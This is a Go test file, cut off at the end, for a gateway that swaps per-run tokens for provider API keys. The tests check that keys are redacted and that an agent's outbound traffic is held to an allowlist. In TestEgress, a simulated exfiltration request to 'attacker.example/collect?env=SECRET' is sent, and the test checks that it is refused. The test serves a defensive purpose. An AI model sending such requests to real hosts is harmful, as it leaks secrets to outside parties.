package gateway

import (
	"bufio"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

const realKey = "sk-real-provider-key-0123456789"

// seen is what an upstream received.
type seen struct {
	Path   string
	Query  url.Values
	Header http.Header
}

// recorder is an upstream that records each request and answers a fixed body.
func recorder(t *testing.T, status int, body string, hdr map[string]string) (*httptest.Server, func() []seen) {
	t.Helper()
	var mu sync.Mutex
	var got []seen
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.Copy(io.Discard, r.Body)
		mu.Lock()
		got = append(got, seen{Path: r.URL.Path, Query: r.URL.Query(), Header: r.Header.Clone()})
		mu.Unlock()
		for k, v := range hdr {
			w.Header().Set(k, v)
		}
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(status)
		_, _ = io.WriteString(w, body)
	}))
	t.Cleanup(srv.Close)
	return srv, func() []seen {
		mu.Lock()
		defer mu.Unlock()
		return append([]seen(nil), got...)
	}
}

// TestCredentials: the run token is taken wherever the CLI put its key,
// stripped, and the real key added where the provider wants it; the client
// never sees the key, not even when the provider echoes it in an error.
func TestCredentials(t *testing.T) {
	tests := []struct {
		name     string
		provider func(base string) Provider
		path     string                                       // after /<provider>
		put      func(tok string) (map[string]string, string) // headers, query
		wantPath string
		check    func(t *testing.T, s seen)
	}{
		{
			name:     "anthropic x-api-key",
			provider: func(base string) Provider { return Anthropic(base, realKey) },
			path:     "/v1/messages",
			put:      func(tok string) (map[string]string, string) { return map[string]string{"x-api-key": tok}, "" },
			wantPath: "/v1/messages",
			check: func(t *testing.T, s seen) {
				if s.Header.Get("X-Api-Key") != realKey || s.Header.Get("Authorization") != "" {
					t.Errorf("headers %v", s.Header)
				}
			},
		},
		{
			name: "claude subscription token",
			provider: func(base string) Provider {
				return Served(func(k string) string {
					return map[string]string{"CLAUDE_CODE_OAUTH_TOKEN": realKey, "ANTHROPIC_BASE_URL": base}[k]
				})[0]
			},
			path: "/v1/messages",
			put: func(tok string) (map[string]string, string) {
				return map[string]string{"x-api-key": tok, "anthropic-beta": "claude-code-20250219, oauth-2025-04-20"}, ""
			},
			wantPath: "/v1/messages",
			check: func(t *testing.T, s seen) {
				if s.Header.Get("Authorization") != "Bearer "+realKey || s.Header.Get("X-Api-Key") != "" ||
					s.Header.Get("Anthropic-Beta") != "claude-code-20250219,oauth-2025-04-20" {
					t.Errorf("headers %v", s.Header)
				}
			},
		},
		{
			name: "claude subscription token, the CLI's flags kept",
			provider: func(base string) Provider {
				return Served(func(k string) string {
					return map[string]string{"CLAUDE_CODE_OAUTH_TOKEN": realKey, "ANTHROPIC_BASE_URL": base}[k]
				})[0]
			},
			path: "/v1/messages",
			put: func(tok string) (map[string]string, string) {
				return map[string]string{"x-api-key": tok, "anthropic-beta": "claude-code-20250219,interleaved-thinking-2025-05-14"}, ""
			},
			wantPath: "/v1/messages",
			check: func(t *testing.T, s seen) {
				if got := s.Header.Get("Anthropic-Beta"); got != "claude-code-20250219,interleaved-thinking-2025-05-14,oauth-2025-04-20" {
					t.Errorf("anthropic-beta %q", got)
				}
			},
		},
		{
			name:     "openai bearer",
			provider: func(base string) Provider { return OpenAI(base, realKey) },
			path:     "/v1/responses",
			put: func(tok string) (map[string]string, string) {
				return map[string]string{"Authorization": "Bearer " + tok}, ""
			},
			wantPath: "/v1/responses",
			check: func(t *testing.T, s seen) {
				if s.Header.Get("Authorization") != "Bearer "+realKey {
					t.Errorf("Authorization %q", s.Header.Get("Authorization"))
				}
			},
		},
		{
			name:     "gemini header",
			provider: func(base string) Provider { return Gemini(base, realKey) },
			path:     "/v1beta/models/m:streamGenerateContent",
			put: func(tok string) (map[string]string, string) {
				return map[string]string{"x-goog-api-key": tok}, "alt=sse"
			},
			wantPath: "/v1beta/models/m:streamGenerateContent",
			check: func(t *testing.T, s seen) {
				if s.Header.Get("X-Goog-Api-Key") != realKey || s.Query.Get("alt") != "sse" {
					t.Errorf("headers %v query %v", s.Header, s.Query)
				}
			},
		},
		{
			name: "gemini query key",
			provider: func(base string) Provider {
				return Provider{Name: "gemini", BaseURL: base, Key: realKey, Query: "key", Endpoints: geminiEndpoints}
			},
			path:     "/v1beta/models/m:generateContent",
			put:      func(tok string) (map[string]string, string) { return nil, "key=" + tok + "&alt=json" },
			wantPath: "/v1beta/models/m:generateContent",
			check: func(t *testing.T, s seen) {
				if s.Query.Get("key") != realKey || len(s.Query["key"]) != 1 || s.Query.Get("alt") != "json" {
					t.Errorf("query %v", s.Query)
				}
			},
		},
		{
			name: "azure api-key, base path and extra headers",
			provider: func(base string) Provider {
				return Provider{Name: "azure", BaseURL: base + "/openai/deployments/d", Key: realKey, Header: "api-key",
					Headers: http.Header{"Openai-Organization": {"org-1"}}, Endpoints: []Endpoint{{http.MethodPost, "/chat/completions"}}}
			},
			path: "/chat/completions",
			put: func(tok string) (map[string]string, string) {
				return map[string]string{"api-key": tok}, "api-version=1"
			},
			wantPath: "/openai/deployments/d/chat/completions",
			check: func(t *testing.T, s seen) {
				if s.Header.Get("Api-Key") != realKey || s.Header.Get("Openai-Organization") != "org-1" || s.Query.Get("api-version") != "1" {
					t.Errorf("headers %v query %v", s.Header, s.Query)
				}
			},
		},
		{
			name:     "basic proxy-style authorization",
			provider: func(base string) Provider { return OpenAI(base, realKey) },
			path:     "/v1/chat/completions",
			put: func(tok string) (map[string]string, string) {
				return map[string]string{"Authorization": "Basic " + base64.StdEncoding.EncodeToString([]byte("agent:"+tok))}, ""
			},
			wantPath: "/v1/chat/completions",
			check: func(t *testing.T, s seen) {
				if s.Header.Get("Authorization") != "Bearer "+realKey {
					t.Errorf("Authorization %q", s.Header.Get("Authorization"))
				}
			},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			for _, status := range []int{200, 401} {
				// The upstream echoes the key in a header and, on error, in its body.
				body := `{"ok":true}`
				if status != 200 {
					body = `{"error":{"message":"invalid key ` + realKey + `"}}`
				}
				up, got := recorder(t, status, body, map[string]string{"X-Echo": "key=" + realKey})
				p := tc.provider(up.URL)
				g, logs := newGateway(t, Options{Providers: []Provider{p}})
				s := open(t, g, "run-1")
				hdr, q := tc.put(s.Token())
				u := "http://gateway/" + p.Name + tc.path
				if q != "" {
					u += "?" + q
				}
				code, h, b := do(t, socketClient(s.SocketPath()), http.MethodPost, u, `{"model":"m"}`, hdr)
				if code != status {
					t.Fatalf("status %d, want %d: %s", code, status, b)
				}
				all := got()
				if len(all) != 1 {
					t.Fatalf("upstream got %d requests", len(all))
				}
				if all[0].Path != tc.wantPath {
					t.Errorf("upstream path %q, want %q", all[0].Path, tc.wantPath)
				}
				tc.check(t, all[0])
				if d := headerDump(all[0].Header) + all[0].Query.Encode(); strings.Contains(d, s.Token()) {
					t.Errorf("the run token reached the provider: %s", d)
				}
				if d := headerDump(h) + b; strings.Contains(d, realKey) {
					t.Errorf("the client saw the key: %s", d)
				}
				if status != 200 && !strings.Contains(b, "[redacted]") {
					t.Errorf("error body %q: want the key redacted", b)
				}
				if l := logs.String(); strings.Contains(l, realKey) || strings.Contains(l, s.Token()) {
					t.Errorf("a secret in the logs: %s", l)
				}
			}
		})
	}
}

// TestTokenRefused: no request reaches the provider without this run's
// token, while the run lasts.
func TestTokenRefused(t *testing.T) {
	up, got := recorder(t, 200, `{}`, nil)
	g, _ := newGateway(t, Options{Providers: []Provider{Anthropic(up.URL, realKey)}})
	s := open(t, g, "run-a")
	other := open(t, g, "run-b")
	closed := open(t, g, "run-c")
	closedToken := closed.Token()
	if err := closed.Close(); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		hdr  map[string]string
	}{
		{"missing", nil},
		{"empty", map[string]string{"x-api-key": ""}},
		{"wrong", map[string]string{"x-api-key": "alfred-run-nope"}},
		{"prefix of the token", map[string]string{"x-api-key": s.Token()[:len(s.Token())-1]}},
		{"the real key", map[string]string{"x-api-key": realKey}},
		{"another run's token", map[string]string{"Authorization": "Bearer " + other.Token()}},
		{"a closed run's token", map[string]string{"x-api-key": closedToken}},
	}
	c := socketClient(s.SocketPath())
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			code, _, body := do(t, c, http.MethodPost, "http://gateway/anthropic/v1/messages", `{}`, tc.hdr)
			if code != http.StatusUnauthorized || !strings.Contains(body, "run token") {
				t.Errorf("status %d %s, want 401 about the run token", code, body)
			}
		})
	}
	if n := len(got()); n != 0 {
		t.Errorf("the provider got %d requests", n)
	}
	if u := s.Usage(); u.Requests != 0 {
		t.Errorf("usage %+v, want no request", u)
	}

	t.Run("closed session", func(t *testing.T) {
		if _, err := os.Stat(closed.SocketPath()); !os.IsNotExist(err) {
			t.Errorf("socket still there: %v", err)
		}
		if _, err := os.Stat(closed.Dir()); !os.IsNotExist(err) {
			t.Errorf("folder still there: %v", err)
		}
		if _, err := net.Dial("unix", closed.SocketPath()); err == nil {
			t.Error("connected to a closed session's socket")
		}
		// Even a request that would reach its handler is refused.
		req := httptest.NewRequest(http.MethodPost, "/anthropic/v1/messages", strings.NewReader("{}"))
		req.Header.Set("x-api-key", closedToken)
		rec := httptest.NewRecorder()
		closed.ServeHTTP(rec, req)
		if rec.Code != http.StatusUnauthorized || !strings.Contains(rec.Body.String(), "ended") {
			t.Errorf("status %d %s", rec.Code, rec.Body)
		}
		if len(got()) != 0 {
			t.Error("the closed session forwarded")
		}
	})

	t.Run("close cuts a kept-alive connection", func(t *testing.T) {
		s2 := open(t, g, "run-d")
		c2 := socketClient(s2.SocketPath())
		if code, _, b := do(t, c2, http.MethodPost, "http://gateway/anthropic/v1/messages", `{}`, map[string]string{"x-api-key": s2.Token()}); code != 200 {
			t.Fatalf("status %d %s", code, b)
		}
		_ = s2.Close()
		req, _ := http.NewRequest(http.MethodPost, "http://gateway/anthropic/v1/messages", strings.NewReader("{}"))
		req.Header.Set("x-api-key", s2.Token())
		if resp, err := c2.Do(req); err == nil {
			resp.Body.Close()
			t.Errorf("a request after Close got %d", resp.StatusCode)
		}
	})
}

// TestStreaming: the client reads the first chunk while the provider is
// still holding back the last one.
func TestStreaming(t *testing.T) {
	release := make(chan struct{})
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		w.WriteHeader(200)
		_, _ = io.WriteString(w, "event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"usage\":{\"input_tokens\":7,\"output_tokens\":1}}}\n\n")
		w.(http.Flusher).Flush()
		select {
		case <-release:
		case <-time.After(10 * time.Second):
			t.Error("the client never saw the first chunk while the upstream held the last")
		}
		_, _ = io.WriteString(w, "event: message_delta\ndata: {\"type\":\"message_delta\",\"usage\":{\"output_tokens\":9}}\n\n")
	}))
	defer up.Close()
	g, logs := newGateway(t, Options{Providers: []Provider{Anthropic(up.URL, realKey)}})
	defer func() {
		if t.Failed() {
			t.Log(logs)
		}
	}()
	s := open(t, g, "run")
	req, _ := http.NewRequest(http.MethodPost, "http://gateway/anthropic/v1/messages", strings.NewReader(`{"stream":true}`))
	req.Header.Set("x-api-key", s.Token())
	resp, err := socketClient(s.SocketPath()).Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	br := bufio.NewReader(resp.Body)
	for {
		line, err := br.ReadString('\n')
		if err != nil {
			t.Fatalf("before the first event ended: %v", err)
		}
		if line == "\n" {
			break
		}
	}
	release <- struct{}{} // only now does the upstream send the last chunk
	rest, err := io.ReadAll(br)
	if err != nil || !strings.Contains(string(rest), "message_delta") {
		t.Errorf("rest %q", rest)
	}
	if u := s.Usage(); u != (Usage{Requests: 1, InputTokens: 7, OutputTokens: 9}) {
		t.Errorf("usage %+v", u)
	}
}

// TestStreamingChunked: a chunked answer that is not SSE is flushed per chunk too.
func TestStreamingChunked(t *testing.T) {
	release := make(chan struct{})
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(200)
		_, _ = io.WriteString(w, "[{\"usageMetadata\":{\"promptTokenCount\":3}}\n")
		w.(http.Flusher).Flush()
		select {
		case <-release:
		case <-time.After(10 * time.Second):
			t.Error("the first chunk was held back")
		}
		_, _ = io.WriteString(w, ",{\"usageMetadata\":{\"promptTokenCount\":3,\"candidatesTokenCount\":4}}]")
	}))
	defer up.Close()
	g, _ := newGateway(t, Options{Providers: []Provider{Gemini(up.URL, realKey)}})
	s := open(t, g, "run")
	req, _ := http.NewRequest(http.MethodPost, "http://gateway/gemini/v1beta/models/m:streamGenerateContent", strings.NewReader(`{}`))
	req.Header.Set("x-goog-api-key", s.Token())
	resp, err := socketClient(s.SocketPath()).Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	br := bufio.NewReader(resp.Body)
	if _, err := br.ReadString('\n'); err != nil {
		t.Fatal(err)
	}
	close(release)
	if rest, err := io.ReadAll(br); err != nil || !strings.HasSuffix(string(rest), "]") {
		t.Fatalf("rest %q %v", rest, err)
	}
	if u := s.Usage(); u != (Usage{Requests: 1, InputTokens: 3, OutputTokens: 4}) {
		t.Errorf("usage %+v", u)
	}
}

// TestEgress: only the providers and the allowed hosts are reachable, as a
// reverse proxy or as an HTTP proxy; the rest is refused and recorded.
func TestEgress(t *testing.T) {
	provider, provGot := recorder(t, 200, `{"usage":{"input_tokens":2,"output_tokens":3}}`, nil)
	allowed, allowedGot := recorder(t, 200, `registry`, nil)
	echo := echoServer(t)
	allowedURL, _ := url.Parse(allowed.URL)
	at := time.Date(2026, 12, 1, 10, 0, 0, 0, time.UTC)
	g, logs := newGateway(t, Options{
		Providers: []Provider{Anthropic(provider.URL, realKey)},
		Allow:     []string{allowedURL.Host, echo, "*.registry.example"},
		Clock:     func() time.Time { return at },
	})
	s := open(t, g, "run")
	proxyURL := &url.URL{Scheme: "http", User: url.UserPassword("agent", s.Token()), Host: "gateway"}
	viaProxy := socketClient(s.SocketPath())
	viaProxy.Transport.(*http.Transport).Proxy = http.ProxyURL(proxyURL)
	noAuthProxy := socketClient(s.SocketPath())
	noAuthProxy.Transport.(*http.Transport).Proxy = http.ProxyURL(&url.URL{Scheme: "http", Host: "gateway"})

	t.Run("absolute-form to another host", func(t *testing.T) {
		code, _, body := do(t, noAuthProxy, http.MethodGet, "http://attacker.example/collect?env=SECRET", "", nil)
		if code != http.StatusForbidden || !strings.Contains(body, "attacker.example is not an allowed destination") {
			t.Errorf("status %d %s", code, body)
		}
		code, _, _ = do(t, viaProxy, http.MethodPost, "http://10.0.0.1:8080/x", "{}", nil)
		if code != http.StatusForbidden {
			t.Errorf("status %d", code)
		}
	})
	t.Run("CONNECT to another host", func(t *testing.T) {
		resp := connect(t, s, "attacker.example:443", s.Token())
		if resp.StatusCode != http.StatusForbidden {
			t.Errorf("status %d", resp.StatusCode)
		}
		resp = connect(t, s, "registry.example.evil:443", "")
		if resp.StatusCode != http.StatusForbidden {
			t.Errorf("status %d", resp.StatusCode)
		}
	})
	t.Run("an allowed host on another port", func(t *testing.T) {
		if resp := connect(t, s, "pkg.registry.example:22", s.Token()); resp.StatusCode != http.StatusForbidden {
			t.Errorf("status %d", resp.StatusCode)
		}
	})
	t.Run("unknown provider is not egress", func(t *testing.T) {
		code, _, body := do(t, socketClient(s.SocketPath()), http.MethodPost, "http://gateway/openai/v1/responses", "{}", map[string]string{"Authorization": "Bearer " + s.Token()})
		if code != http.StatusNotFound || !strings.Contains(body, "/anthropic/") {
			t.Errorf("status %d %s", code, body)
		}
	})

	want := []Refusal{
		{Host: "attacker.example", Method: "GET", Path: "/collect", At: at},
		{Host: "10.0.0.1:8080", Method: "POST", Path: "/x", At: at},
		{Host: "attacker.example:443", Method: "CONNECT", At: at},
		{Host: "registry.example.evil:443", Method: "CONNECT", At: at},
		{Host: "pkg.registry.example:22", Method: "CONNECT", At: at},
	}
	if got := s.Refused(); fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("refused\n%v\nwant\n%v", got, want)
	}
	if got := s.Refused()[0].String(); got != "the agent tried to reach attacker.example/collect (GET): refused" {
		t.Errorf("String() = %q", got)
	}
	if s.RefusedTotal() != len(want) {
		t.Errorf("RefusedTotal %d", s.RefusedTotal())
	}
	if !strings.Contains(logs.String(), "egress refused") {
		t.Error("no refusal logged")
	}

	t.Run("absolute-form to an allowed host", func(t *testing.T) {
		code, _, body := do(t, viaProxy, http.MethodGet, allowed.URL+"/pkg?key=own", "", map[string]string{"Authorization": "Bearer registry-token"})
		if code != 200 || body != "registry" {
			t.Fatalf("status %d %s", code, body)
		}
		r := allowedGot()[0]
		if r.Header.Get("Authorization") != "Bearer registry-token" || r.Header.Get("Proxy-Authorization") != "" || r.Query.Get("key") != "own" {
			t.Errorf("the allowed host got %v %v", r.Header, r.Query)
		}
		if strings.Contains(headerDump(r.Header), realKey) {
			t.Error("the provider key went to an allowed host")
		}
	})
	t.Run("absolute-form to an allowed host needs the token", func(t *testing.T) {
		code, h, _ := do(t, noAuthProxy, http.MethodGet, allowed.URL+"/pkg", "", nil)
		if code != http.StatusProxyAuthRequired || h.Get("Proxy-Authenticate") == "" {
			t.Errorf("status %d", code)
		}
	})
	t.Run("absolute-form to the provider host", func(t *testing.T) {
		code, _, _ := do(t, viaProxy, http.MethodPost, provider.URL+"/v1/messages", "{}", nil)
		if code != 200 {
			t.Fatalf("status %d", code)
		}
		r := provGot()[0]
		if r.Header.Get("X-Api-Key") != realKey || r.Path != "/v1/messages" {
			t.Errorf("the provider got %v %s", r.Header, r.Path)
		}
		if u := s.Usage(); u != (Usage{Requests: 1, InputTokens: 2, OutputTokens: 3}) {
			t.Errorf("usage %+v", u)
		}
	})
	t.Run("absolute-form to the forwarder itself", func(t *testing.T) {
		// HTTP_PROXY pointing at the forwarder with no NO_PROXY: the CLI
		// sends its model request in absolute form to 127.0.0.1.
		code, _, body := do(t, viaProxy, http.MethodPost, "http://127.0.0.1:47080/anthropic/v1/messages", "{}", map[string]string{"x-api-key": s.Token()})
		if code != 200 || len(provGot()) != 2 {
			t.Errorf("status %d %s", code, body)
		}
		// Another loopback address is not the gateway's to give.
		code, _, _ = do(t, viaProxy, http.MethodGet, "http://127.0.0.1:47080/admin", "", nil)
		if code != http.StatusForbidden {
			t.Errorf("status %d", code)
		}
	})
	t.Run("CONNECT to an allowed host is tunnelled", func(t *testing.T) {
		if resp := connect(t, s, echo, ""); resp.StatusCode != http.StatusProxyAuthRequired {
			t.Errorf("without the token: status %d", resp.StatusCode)
		}
		c, resp := connectConn(t, s, echo, s.Token())
		if resp.StatusCode != 200 {
			t.Fatalf("status %d", resp.StatusCode)
		}
		defer c.Close()
		_, _ = io.WriteString(c, "ping")
		_ = c.(*net.UnixConn).CloseWrite()
		b, _ := io.ReadAll(c)
		if string(b) != "ping" {
			t.Errorf("echo %q", b)
		}
	})
	if n := len(s.Refused()); n != len(want)+1 {
		t.Errorf("%d refusals, want %d: allowed requests were recorded", n, len(want)+1)
	}
}

// echoServer is a TCP server that echoes until EOF, then half-closes; it
// returns its host:port.
func echoServer(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				_, _ = io.Copy(c, c)
				_ = c.(*net.TCPConn).CloseWrite()
			}()
		}
	}()
	return ln.Addr().String()
}

// connectConn sends CONNECT on a fresh socket connection; proxy
// authorization is Basic agent:<token> when token is set.
func connectConn(t *testing.T, s *Session, target, token string) (net.Conn, *http.Response) {
	t.Helper()
	c, err := net.Dial("unix", s.SocketPath())
	if err != nil {
		t.Fatal(err)
	}
	req := "CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n"
	if token != "" {
		req += "Proxy-Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte("agent:"+token)) + "\r\n"
	}
	if _, err := io.WriteString(c, req+"\r\n"); err != nil {
		t.Fatal(err)
	}
	// Read the status line and headers byte by byte so nothing of the
	// tunnel is consumed.
	var head strings.Builder
	one := make([]byte, 1)
	for !strings.HasSuffix(head.String(), "\r\n\r\n") {
		if _, err := c.Read(one); err != nil {
			t.Fatalf("CONNECT answer: %v (%q)", err, head.String())
		}
		head.WriteByte(one[0])
	}
	resp, err := http.ReadResponse(bufio.NewReader(strings.NewReader(head.String())), nil)
	if err != nil {
		t.Fatal(err)
	}
	return c, resp
}

func connect(t *testing.T, s *Session, target, token string) *http.Response {
	c, resp := connectConn(t, s, target, token)
	_ = c.Close()
	return resp
}

// TestSocket: the folder is the bot's alone, the socket connectable by any
// uid, and Open refuses what it cannot serve.
func TestSocket(t *testing.T) {
	g, _ := newGateway(t, Options{Providers: []Provider{Anthropic("", realKey)}})
	s := open(t, g, "run")
	fi, err := os.Stat(s.Dir())
	if err != nil || fi.Mode().Perm() != 0o700 || !fi.IsDir() {
		t.Errorf("folder %v %v", fi.Mode(), err)
	}
	fi, err = os.Stat(s.SocketPath())
	if err != nil || fi.Mode()&os.ModeSocket == 0 || fi.Mode().Perm() != SocketMode {
		t.Errorf("socket %v %v", fi.Mode(), err)
	}
	if filepath.Dir(s.SocketPath()) != s.Dir() {
		t.Errorf("socket %s outside %s", s.SocketPath(), s.Dir())
	}
	if !strings.HasPrefix(s.Token(), "alfred-run-") || len(s.Token()) < 50 {
		t.Errorf("token %q", s.Token())
	}
	if _, err := g.Open("run"); err == nil || !strings.Contains(err.Error(), "already has a session") {
		t.Errorf("second Open: %v", err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if err := s.Close(); err != nil {
		t.Errorf("second Close: %v", err)
	}
	s2 := open(t, g, "run") // the id is free again
	if s2.Token() == s.Token() {
		t.Error("the same token twice")
	}

	long, _ := newGateway(t, Options{Providers: []Provider{Anthropic("", realKey)}, Dir: filepath.Join(t.TempDir(), strings.Repeat("d", 100))})
	_ = os.MkdirAll(long.dir, 0o700)
	if _, err := long.Open("run"); err == nil || !strings.Contains(err.Error(), "shorter Options.Dir") {
		t.Errorf("long path: %v", err)
	}
	if _, err := long.Open("run"); err == nil || strings.Contains(err.Error(), "already") {
		t.Errorf("a failed Open must leave the id free: %v", err)
	}
}

func TestNewRefuses(t *testing.T) {
	tests := []struct {
		name string
		opts Options
		want string
	}{
		{"no provider", Options{}, "no provider"},
		{"bad name", Options{Providers: []Provider{{Name: "Open AI", BaseURL: "https://x"}}}, "provider name"},
		{"twice", Options{Providers: []Provider{Anthropic("", "k"), Anthropic("", "k")}}, "twice"},
		{"bad url", Options{Providers: []Provider{{Name: "x", BaseURL: "ftp://x"}}}, "base URL"},
		{"query in url", Options{Providers: []Provider{{Name: "x", BaseURL: "https://x/?key=1"}}}, "base URL"},
		{"key without place", Options{Providers: []Provider{{Name: "x", BaseURL: "https://x", Key: "k"}}}, "neither Header nor Query"},
		{"bad allow", Options{Providers: []Provider{Anthropic("", "k")}, Allow: []string{"http://x/y"}}, "allowed host"},
		{"bad allow port", Options{Providers: []Provider{Anthropic("", "k")}, Allow: []string{"x:https"}}, "allowed host"},
		{"allow everything", Options{Providers: []Provider{Anthropic("", "k")}, Allow: []string{"*"}}, "allowed host"},
		{"no endpoints", Options{Providers: []Provider{{Name: "x", BaseURL: "https://x"}}}, "no Endpoints"},
		{"endpoint without slash", Options{Providers: []Provider{{Name: "x", BaseURL: "https://x", Endpoints: []Endpoint{{"POST", "v1/x"}}}}}, "start with /"},
		{"endpoint with a dot segment", Options{Providers: []Provider{{Name: "x", BaseURL: "https://x", Endpoints: []Endpoint{{"POST", "/v1/../x"}}}}}, "not only dots"},
		{"endpoint with a bad parameter", Options{Providers: []Provider{{Name: "x", BaseURL: "https://x", Endpoints: []Endpoint{{"POST", "/v1/m{x}"}}}}}, "{name}"},
		{"endpoint with a lower-case method", Options{Providers: []Provider{{Name: "x", BaseURL: "https://x", Endpoints: []Endpoint{{"post", "/v1/x"}}}}}, "method"},
		{"endpoint for CONNECT", Options{Providers: []Provider{{Name: "x", BaseURL: "https://x", Endpoints: []Endpoint{{"CONNECT", "/v1/x"}}}}}, "CONNECT"},
		{"unknown error shape", Options{Providers: []Provider{{Name: "x", BaseURL: "https://x", Endpoints: []Endpoint{{"POST", "/v1/x"}}, ErrorShape: "xml"}}}, "error shape"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := New(tc.opts)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("err %v, want %q", err, tc.want)
			}
		})
	}
}

// TestUnreachableProvider: a transport error names the provider, never the
// key (which a query-carried key would otherwise put in the URL of the error).
func TestUnreachableProvider(t *testing.T) {
	ln, _ := net.Listen("tcp", "127.0.0.1:0")
	dead := "http://" + ln.Addr().String()
	_ = ln.Close()
	g, logs := newGateway(t, Options{Providers: []Provider{{Name: "gemini", BaseURL: dead, Key: realKey + "/+=", Query: "key", Endpoints: geminiEndpoints}}})
	s := open(t, g, "run")
	code, _, body := do(t, socketClient(s.SocketPath()), http.MethodPost, "http://gateway/gemini/v1beta/models/m:generateContent?key="+s.Token(), "{}", nil)
	if code != http.StatusBadGateway || !strings.Contains(body, "provider gemini unreachable") {
		t.Errorf("status %d %s", code, body)
	}
	for _, where := range []string{body, logs.String()} {
		if strings.Contains(where, realKey) || strings.Contains(where, url.QueryEscape(realKey+"/+=")) {
			t.Errorf("the key leaked: %s", where)
		}
	}

	// A transport error that quotes the URL (and so the key) is redacted.
	fail := roundTripFunc(func(r *http.Request) (*http.Response, error) {
		return nil, fmt.Errorf("cannot reach %s", r.URL)
	})
	g, logs = newGateway(t, Options{Transport: fail, Providers: []Provider{{Name: "gemini", BaseURL: dead, Key: realKey + "/+=", Query: "key", Endpoints: geminiEndpoints}}})
	s = open(t, g, "run")
	code, _, body = do(t, socketClient(s.SocketPath()), http.MethodPost, "http://gateway/gemini/v1beta/models/m:generateContent?key="+s.Token(), "{}", nil)
	if code != http.StatusBadGateway || !strings.Contains(body, "key=[redacted]") {
		t.Errorf("status %d %s", code, body)
	}
	for _, where := range []string{body, logs.String()} {
		if strings.Contains(where, realKey) || strings.Contains(where, url.QueryEscape(realKey+"/+=")) {
			t.Errorf("the key leaked: %s", where)
		}
	}
}

type roundTripFunc func(*http.Request) (*http.Response, error)

func (f roundTripFunc) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }

// TestUpgrade: an upgraded connection (a WebSocket) to a model provider is
// refused and recorded, its frames could not be metered (Codex runs with
// supports_websockets=false); to an allowed host, as a proxy request, it
// carries bytes both ways without the run's token, and is cut by Close.
func TestUpgrade(t *testing.T) {
	var mu sync.Mutex
	var gotAuth []string
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		gotAuth = append(gotAuth, r.Header.Get("Authorization")+r.Header.Get("Proxy-Authorization"))
		mu.Unlock()
		c, brw, err := http.NewResponseController(w).Hijack()
		if err != nil {
			t.Error(err)
			return
		}
		defer c.Close()
		_, _ = io.WriteString(c, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: echo\r\nConnection: Upgrade\r\n\r\n")
		_, _ = io.Copy(c, brw)
	}))
	defer up.Close()
	host := mustURL(up.URL).Host
	g, _ := newGateway(t, Options{Providers: []Provider{OpenAI("http://provider.invalid", realKey)}, Allow: []string{host}})
	s := open(t, g, "run")

	resp, body := rawRequest(t, s, "GET /openai/v1/responses HTTP/1.1\r\nHost: gateway\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nAuthorization: Bearer "+s.Token()+"\r\n\r\n")
	if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "upgrade") {
		t.Errorf("an upgrade to the provider: %d %s", resp.StatusCode, body)
	}
	if ref := s.Refused(); len(ref) != 1 || ref[0].Path != "/v1/responses" || !strings.Contains(ref[0].Reason, "upgrade") {
		t.Errorf("refusals %v", ref)
	}

	c, err := net.Dial("unix", s.SocketPath())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	basic := base64.StdEncoding.EncodeToString([]byte("agent:" + s.Token()))
	_, _ = io.WriteString(c, "GET http://"+host+"/ws HTTP/1.1\r\nHost: "+host+"\r\nConnection: Upgrade\r\nUpgrade: echo\r\nProxy-Authorization: Basic "+basic+"\r\n\r\n")
	br := bufio.NewReader(c)
	resp, err = http.ReadResponse(br, nil)
	if err != nil || resp.StatusCode != http.StatusSwitchingProtocols {
		t.Fatalf("an upgrade to an allowed host: %v %v", resp, err)
	}
	mu.Lock()
	if len(gotAuth) != 1 || gotAuth[0] != "" {
		t.Errorf("the allowed host got credentials %q", gotAuth)
	}
	mu.Unlock()
	_, _ = io.WriteString(c, "ping\n")
	if line, err := br.ReadString('\n'); line != "ping\n" {
		t.Fatalf("echo %q %v", line, err)
	}
	_ = s.Close()
	_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
	if _, err := br.ReadString('\n'); err == nil || errors.Is(err, os.ErrDeadlineExceeded) {
		t.Errorf("the upgraded connection outlived the session: %v", err)
	}
}

// TestKeylessHeadIsQuiet: a CLI's keyless HEAD probe of its base URL is
// refused like any request without the run token, but logged at Debug
// only; a keyless POST still warns.
func TestKeylessHeadIsQuiet(t *testing.T) {
	up, _ := recorder(t, 200, `{}`, nil)
	g, logs := newGateway(t, Options{Providers: []Provider{Anthropic(up.URL, realKey)}})
	s := open(t, g, "run-a")
	c := socketClient(s.SocketPath())
	if code, _, _ := do(t, c, http.MethodHead, "http://gateway/anthropic", "", nil); code != http.StatusUnauthorized {
